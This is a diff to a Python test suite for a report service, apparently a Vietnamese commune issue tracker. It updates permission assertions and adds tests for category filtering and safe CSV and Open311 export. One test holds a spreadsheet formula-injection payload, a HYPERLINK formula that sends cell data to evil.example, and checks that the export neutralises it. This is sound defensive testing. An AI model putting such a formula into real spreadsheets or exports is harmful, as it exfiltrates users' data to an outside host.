@@ -110,8 +110,8 @@ async def test_nobody_else_may_file_move_or_see(reports: ReportService) -> None:
         await reports.open_report(OFFICIAL, report.id)
     with pytest.raises(NotAllowed):
         await reports.move(LEADER, 999, State.RECEIVED, "", NOW)  # the same answer as for one they may not see
-    assert [r.number for r in await reports.of_my_commune(OFFICIAL)] == ["BC-000001"]
-    assert await reports.of_my_commune(NEIGHBOUR) == []
+    assert [r.number for r in (await reports.of_my_commune(OFFICIAL))[0]] == ["BC-000001"]
+    assert await reports.of_my_commune(NEIGHBOUR) == ([], 0)
     assert [r.number for r in await reports.open_reports(LEADER, NOW)] == ["BC-000001"]
     assert (await reports.open_report(LEADER, report.id)).number == "BC-000001"
 
@@ -217,3 +217,20 @@ async def test_export_as_csv_and_as_open311(reports: ReportService) -> None:
     assert [r.report.id for r in await reports.export(open_only=True)] == [waiting.id]
     with pytest.raises(ValueError, match="unknown format"):
         Exporter(ZoneInfo("UTC"), str).write([], "xml", io.StringIO())
+
+
+async def test_category_words_match_at_the_start_of_a_word(reports: ReportService) -> None:
+    assert read_filter("IT", lambda text: None) == ReportFilter(categories=frozenset({"it"}))  # not kitchen
+    assert read_filter("bếp", lambda text: None) == ReportFilter(categories=frozenset({"kitchen"}))
+
+
+async def test_the_export_is_safe_for_spreadsheets_and_notes_are_the_leaders(reports: ReportService) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Xem ảnh")'
+    report = await reports.file(OFFICIAL, Draft("it", "low", formula), NOW)
+    await reports.move(LEADER, report.id, State.IN_PROGRESS, "Đã liên hệ nhà mạng.", NOW)
+    await reports.add_to(OFFICIAL, report.id, Draft("it", "low", "Hôm nay mất hẳn mạng."), NOW)
+    [row] = list(csv.DictReader(io.StringIO(await export(reports, "csv"))))
+    assert row["mo_ta"] == "'" + formula  # a spreadsheet shows it as text, never runs it
+    assert row["ghi_chu_cuoi"] == "Đã liên hệ nhà mạng."  # the leader's, not the commune's addition
+    [request] = json.loads(await export(reports, "open311"))
+    assert request["status_notes"] == "đang xử lý: Đã liên hệ nhà mạng." and request["description"] == formula
